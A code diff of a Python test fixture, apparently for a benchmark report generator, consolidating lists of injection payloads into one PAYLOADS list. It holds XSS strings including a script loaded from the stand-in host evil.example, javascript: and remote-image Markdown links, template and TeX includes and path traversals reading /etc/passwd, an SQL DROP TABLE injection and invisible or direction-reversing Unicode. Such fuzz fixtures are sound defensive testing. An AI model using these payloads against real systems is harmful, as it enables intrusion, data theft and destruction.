@@ -2,7 +2,8 @@
 
 EVIL = "https://evil.example"
 
-MARKUP = [
+PAYLOADS = [
+    # markup
     "<script>alert(1)</script>",
     "<SCRIPT SRC=" + EVIL + "/x.js></SCRIPT>",
     "<img src=x onerror=alert(1)>",
@@ -34,8 +35,7 @@ MARKUP = [
     "</title><script>alert(1)</script>",
     "</script><script>alert(1)</script>",
     "</desc></svg><script>alert(1)</script>",
-]
-MARKDOWN = [
+    # Markdown
     "[click](javascript:alert(1))",
     "![x](" + EVIL + "/x.png)",
     "[x]: " + EVIL + "/ 'reference'",
@@ -53,8 +53,7 @@ MARKDOWN = [
     "[^1]: a footnote <script>alert(1)</script>",
     ":smile: ==mark== ^^insert^^ ~~gone~~",
     "| a | b |\n|---|---|\n| <script>alert(1)</script> | |",
-]
-TEMPLATES = [
+    # what a template, an extension or TeX would fill in
     '--8<-- "mkdocs.yml"',
     ';--8<-- "../../../etc/passwd"',
     "--8<--\nmkdocs.yml\n--8<--",
@@ -66,8 +65,7 @@ TEMPLATES = [
     r"$\frac{1}{$",
     r"$\alert{x}$ and $$y$$",
     r"\(x\) \[y\] \input{/etc/passwd}",
-]
-UNSEEN = [
+    # what cannot be seen
     "safe\u202egpj.exe",
     "\u2066left\u2069 \u2067right\u2069",
     "a\u200bb\u200c\u200d\ufeffc",
@@ -78,8 +76,7 @@ UNSEEN = [
     "line\u2028paragraph\u2029end\u0085",
     "z" + "\u0301\u0327" * 150 + "<b>",
     "\ufff9hidden\ufffb\ufffe\uffff",
-]
-PLACES = [
+    # places, commands and other formats
     "../../../../etc/passwd",
     "a/../../b <i>",
     "..\\..\\windows\\win.ini",
@@ -93,7 +90,6 @@ PLACES = [
     "';DROP TABLE runs;--",
     "<" * 3000,
 ]
-PAYLOADS = [*MARKUP, *MARKDOWN, *TEMPLATES, *UNSEEN, *PLACES]
 
 NAMES = (  # fields for a name; none takes a payload
     "bench.campaign", "bench.machine.name", "bench.machine.cpu", "bench.machine.system", "bench.machine.gpu",
